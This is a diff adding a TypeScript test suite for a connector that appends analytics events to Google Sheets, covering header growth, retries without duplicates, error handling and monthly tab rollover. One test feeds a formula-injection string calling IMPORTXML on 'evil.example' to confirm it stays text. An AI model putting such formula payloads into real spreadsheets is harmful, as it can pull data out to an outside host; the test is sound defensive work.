@@ -1,0 +1,118 @@
+import { RetryableError } from '../../../connectors/errors';
+import { TRUNCATION_MARKER } from '../../../connectors/google-sheets';
+import { event, OK, rowsOf, startHarness, type Harness } from './harness';
+
+let h: Harness;
+beforeEach(async () => {
+  h = await startHarness();
+});
+afterEach(() => h.close());
+
+const TAB = 'events_2026_11';
+
+test('events are appended under a header that grows at the right; values keep their types', async () => {
+  const w = await h.open();
+  const first = [event(h.clock, { plan: 'pro', n: 3 }), event(h.clock, { ok: true, cart: { items: [1, 2] } })];
+  expect(await h.write(w, first)).toEqual([OK, OK]);
+  await h.write(w, [event(h.clock, { n: 1.5, coupon: null, later: 'x' })]);
+  const values = h.tab(TAB);
+  expect(values[0]).toEqual(['_id', '_uid', '_sid', '_event', '_event_at', '_received_at', 'plan', 'n', 'ok', 'cart', 'later']);
+  expect(rowsOf(values).map(({ _id, _event_at, _received_at, ...rest }) => rest)).toEqual([
+    { _event: 'view', plan: 'pro', n: 3 },
+    { _event: 'view', ok: true, cart: '{"items":[1,2]}' },
+    { _event: 'view', n: 1.5, later: 'x' },
+  ]);
+  expect(rowsOf(values)[0]).toMatchObject({ _id: first[0]!.id, _event_at: first[0]!.eventAt, _received_at: first[0]!.receivedAt });
+  // Per flush one append and one values.batchUpdate for the header cells; the new tab, then the
+  // grid widened for `later` before its header cell is written, one spreadsheets.batchUpdate each.
+  const writes = h.fake.counts((r) => !['spreadsheets.get', 'values.batchGet'].includes(r.method));
+  expect(writes).toEqual({ 'spreadsheets.batchUpdate': 2, 'values.batchUpdate': 2, 'values.append': 2 });
+  expect(h.fake.sheet(h.spreadsheetId, TAB).columnCount).toBe(11);
+});
+
+test('formula-looking strings stay text, long strings are cut with the marker', async () => {
+  const w = await h.open();
+  const long = 'é'.repeat(60_000);
+  await h.write(w, [event(h.clock, { f: '=IMPORTXML("https://evil.example","//a")', zip: '00123', long })]);
+  const sheet = h.fake.sheet(h.spreadsheetId, TAB);
+  const header = rowsOf(h.tab(TAB))[0]!;
+  expect(header.f).toBe('=IMPORTXML("https://evil.example","//a")');
+  expect(sheet.cell(2, 7)).toEqual({ t: 's', v: '=IMPORTXML("https://evil.example","//a")' });
+  expect(sheet.cell(2, 8)).toEqual({ t: 's', v: '00123' });
+  const cut = String(header.long);
+  expect(cut).toHaveLength(50_000);
+  expect(cut.endsWith(TRUNCATION_MARKER)).toBe(true);
+});
+
+test('columns reordered, added and renamed by hand: each value goes under the header that names it', async () => {
+  const w = await h.open();
+  await h.write(w, [event(h.clock, { plan: 'free', seats: 1 })]);
+  const sheet = h.fake.sheet(h.spreadsheetId, TAB);
+  sheet.moveColumn(8, 1); // seats first
+  sheet.moveColumn(8, 3); // plan third
+  sheet.insertColumns(9, 1);
+  sheet.set(1, 9, { t: 's', v: 'notes (mine)' });
+  sheet.set(2, 9, { t: 's', v: 'call back' });
+  await h.write(w, [event(h.clock, { plan: 'pro', seats: 5, color: 'red' })]);
+  const values = h.tab(TAB);
+  expect(values[0]).toEqual(['seats', '_id', 'plan', '_uid', '_sid', '_event', '_event_at', '_received_at', 'notes (mine)', 'color']);
+  expect(rowsOf(values).map((r) => [r.seats, r.plan, r.color, r['notes (mine)']])).toEqual([
+    [1, 'free', undefined, 'call back'],
+    [5, 'pro', 'red', undefined],
+  ]);
+});
+
+test('a response lost after the append landed: the retry finds the rows and does not double them', async () => {
+  const w = await h.open();
+  await h.write(w, [event(h.clock, { n: 0 })]);
+  const batch = [event(h.clock, { n: 1 }), event(h.clock, { n: 2 })];
+  h.fake.faults.add({ kind: 'lose-response' }, { method: 'values.append' });
+  const err = await h.write(w, batch).catch((e: unknown) => e);
+  expect(err).toBeInstanceOf(RetryableError);
+  expect((err as RetryableError).details.reason).toBe('no-response');
+  expect(rowsOf(h.tab(TAB))).toHaveLength(3);
+  // The delivery loop sends the same batch again, maybe with more records behind it.
+  const more = event(h.clock, { n: 3 });
+  expect(await h.write(w, [...batch, more])).toEqual([OK, OK, OK]);
+  expect(rowsOf(h.tab(TAB)).map((r) => r.n)).toEqual([0, 1, 2, 3]);
+});
+
+test('after a restart, a batch that landed before the crash is found at the end of the tab', async () => {
+  const before = await h.open();
+  const batch = [event(h.clock, { n: 1 }), event(h.clock, { n: 2 })];
+  await h.write(before, batch);
+  const after = await h.open();
+  expect(await h.write(after, batch)).toEqual([OK, OK]);
+  expect(rowsOf(h.tab(TAB))).toHaveLength(2);
+});
+
+test('5xx and timeouts: RetryableError, nothing doubled, and googleapis itself retries nothing', async () => {
+  const w = await h.open({ requestTimeoutMs: 300 });
+  await h.write(w, [event(h.clock, { n: 0 })]);
+  const batch = [event(h.clock, { n: 1 })];
+  h.fake.faults.add({ kind: 'status', status: 503 }, { method: 'values.batchGet' });
+  await expect(h.write(w, batch)).rejects.toMatchObject({ kind: 'retryable', details: { status: 503 } });
+  expect(h.fake.counts((r) => r.status === 503)).toEqual({ 'values.batchGet': 1 });
+  h.fake.faults.add({ kind: 'status', status: 500 }, { method: 'values.append' });
+  await expect(h.write(w, batch)).rejects.toMatchObject({ kind: 'retryable', details: { status: 500 } });
+  h.fake.faults.add({ kind: 'hang' }, { method: 'values.append' });
+  await expect(h.write(w, batch)).rejects.toMatchObject({ kind: 'retryable', details: { reason: 'no-response' } });
+  await h.write(w, batch);
+  expect(rowsOf(h.tab(TAB)).map((r) => r.n)).toEqual([0, 1]);
+  expect(h.fake.counts((r) => r.method === 'values.append')).toEqual({ 'values.append': 4 });
+});
+
+test('monthly rollover: events go to the tab of their UTC month; a batch across midnight writes both', async () => {
+  h.clock.set(Date.UTC(2026, 10, 30, 23, 59, 59));
+  const w = await h.open();
+  const november = event(h.clock, { n: 1 });
+  h.clock.advance(2000);
+  const december = event(h.clock, { n: 2 });
+  await h.write(w, [november, december]);
+  expect(rowsOf(h.tab('events_2026_11')).map((r) => r.n)).toEqual([1]);
+  expect(rowsOf(h.tab('events_2026_12')).map((r) => r.n)).toEqual([2]);
+  expect(w.capacity()).toMatchObject({ spreadsheetId: h.spreadsheetId, eventsTab: 'events_2026_12', maxCells: 9_500_000 });
+  const single = await h.open({ rollover: 'none', tabs: { events: 'log' } });
+  await h.write(single, [event(h.clock, { n: 3 })]);
+  expect(rowsOf(h.tab('log')).map((r) => r.n)).toEqual([3]);
+});
